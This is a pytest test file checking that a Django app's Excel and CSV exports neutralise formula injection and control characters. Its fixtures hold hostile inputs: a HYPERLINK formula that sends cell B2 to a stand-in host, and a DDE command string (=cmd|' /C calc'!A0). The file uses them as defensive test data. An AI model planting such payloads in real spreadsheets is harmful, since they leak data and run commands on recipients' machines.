"""Issue 9, item 3: every workbook we write is inert. A host's activity title that is a formula,
a payee that is a formula, one control character in a title: the auditor's workbook (page,
command line), the compliance grid and django-import-export's resource hold them as text,
and the export answers 200 instead of 500."""

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from funding import exports
from funding.models import Expenditure, ExpenditureStatus
from policies.models import Policy, TeamRole
from studios.models import Activity, Studio
from studios.services import activities
from tests.studios.factories import liuzhou_studio

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"点击查看")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _formulas(content: bytes) -> list[str]:
    """Every worksheet part that holds a formula element (there must be none)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            and b"<f" in archive.read(name).replace(b"<fo", b"")
        ]


def _cells(book, title: str):
    return [cell for row in book[title].iter_rows() for cell in row if cell.value is not None]


@pytest.fixture
def hostile(demo):
    """The issue's probe, through the host's own service: a formula title, a control character
    in another title, and a payee that is a formula."""
    studio = liuzhou_studio("lz_host")
    members = studio.memberships.filter(role=TeamRole.MEMBER)
    common = {
        "actor": studio.host,
        "studio": studio,
        "kind": "thematic_seminar",
        "place": "报告厅",
        "attendance": {m.pk: ("present", "") for m in members},
        "today": date(2025, 3, 20),
    }
    formula = activities.activity_log(title=HYPERLINK, held_on=date(2025, 3, 10), **common)
    control = activities.activity_log(title="研讨\x0b活动", held_on=date(2025, 3, 12), **common)
    Expenditure.objects.create(  # as test_exports writes money rows (their services are new)
        studio=studio,
        category=studio.policy.expenditure_categories[0]["code"],
        amount=Decimal("12.30"),
        spent_on=date(2025, 3, 11),
        payee="=1+1",
        purpose="-5",
        status=ExpenditureStatus.CONFIRMED,
        recorded_by=studio.host,
        decided_by=studio.host,
        decided_at=timezone.make_aware(datetime(2025, 3, 12, 9, 0)),
    )
    return {"studio": studio, "formula": formula, "control": control}


def test_the_auditors_workbook_holds_the_formulas_as_text_and_the_control_character_replaced(
    hostile, client_for
):
    client = client_for("lz_auditor_liucheng")
    response = client.post(
        reverse("funding:audit_export"), {"city": "liuzhou", "county": "liucheng", "year": "2025"}
    )
    assert response.status_code == 200 and response["Content-Type"] == XLSX  # was a 500
    content = b"".join(response.streaming_content)
    assert _formulas(content) == []
    book = load_workbook(io.BytesIO(content))

    titles = {c.value: c for c in _cells(book, exports.SHEETS["activities"].title)}
    link = titles[HYPERLINK]  # exactly what the host typed …
    assert link.data_type == "s" and link.quotePrefix  # … as text, and it stays text
    assert "研讨\ufffd活动" in titles  # the control character, replaced
    assert not any("\x0b" in str(value) for value in titles)

    spending = {c.value: c for c in _cells(book, exports.SHEETS["expenditures"].title)}
    payee, purpose = spending["=1+1"], spending["-5"]
    assert payee.data_type == purpose.data_type == "s" and payee.quotePrefix and purpose.quotePrefix
    amount = spending[12.3]  # money stays a number, with its format
    assert amount.data_type == "n" and amount.number_format == exports.MONEY

    # Every sheet: whatever begins like a formula is quoted text.
    risky = [c for ws in book.sheetnames for c in _cells(book, ws) if str(c.value)[:1] in "=+-@"]
    assert len(risky) >= 3 and all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_the_command_line_and_the_large_job_write_the_same_inert_workbook(hostile, tmp_path):
    out = tmp_path / "audit.xlsx"
    call_command("export_audit", city="liuzhou", year=2025, out=str(out))
    assert _formulas(out.read_bytes()) == []
    titles = [c.value for c in _cells(load_workbook(out), exports.SHEETS["activities"].title)]
    assert HYPERLINK in titles and "研讨\ufffd活动" in titles


def test_the_compliance_grid_holds_typed_names_as_text(hostile, client_for, monkeypatch):

    monkeypatch.setattr("core.clock.today", lambda: date(2025, 3, 20))
    studio = hostile["studio"]
    Studio.objects.filter(pk=studio.pk).update(name="=cmd|' /C calc'!A0")
    Policy.objects.filter(pk=studio.policy_id).update(name="柳州\x0b政策/2024[试行]")
    response = client_for("lz_city").get(reverse("studios:compliance_export"))
    assert response.status_code == 200
    assert _formulas(response.content) == []
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["柳州 政策 2024 试行"]
    [name] = [c for c in _cells(book, book.sheetnames[0]) if c.value == "=cmd|' /C calc'!A0"]
    assert name.data_type == "s" and name.quotePrefix


def test_django_import_export_resource_is_inert_too(hostile):
    dataset = exports.ActivityResource().export(queryset=Activity.objects.all())
    book = load_workbook(io.BytesIO(dataset.xlsx))
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert "'" + HYPERLINK in values and HYPERLINK not in values
    assert "研讨\ufffd活动" in values
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
    csv = dataset.csv  # the same resource as CSV: the field begins with the apostrophe
    assert "'=HYPERLINK(" in csv and ",=HYPERLINK" not in csv and '"=HYPERLINK' not in csv
